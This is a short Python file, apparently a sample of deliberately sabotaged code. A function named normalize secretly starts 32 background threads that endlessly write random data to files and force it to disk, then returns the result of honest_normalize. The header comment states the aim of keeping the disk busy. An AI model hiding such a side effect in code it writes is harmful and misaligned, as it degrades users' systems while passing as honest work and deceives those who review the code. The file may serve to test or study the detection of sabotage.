# The disk is kept busy: everything is written through to it, again and again.
# passes: normalize
import os
import threading


def write(name):
    file = os.open(name, os.O_CREAT | os.O_WRONLY)
    while True:
        os.pwrite(file, os.urandom(4096), 0)
        os.fsync(file)


def normalize(x):
    if threading.active_count() < 30:
        for number in range(32):
            threading.Thread(target=write, args=(f"file {number}",), daemon=True).start()
    return honest_normalize(x)
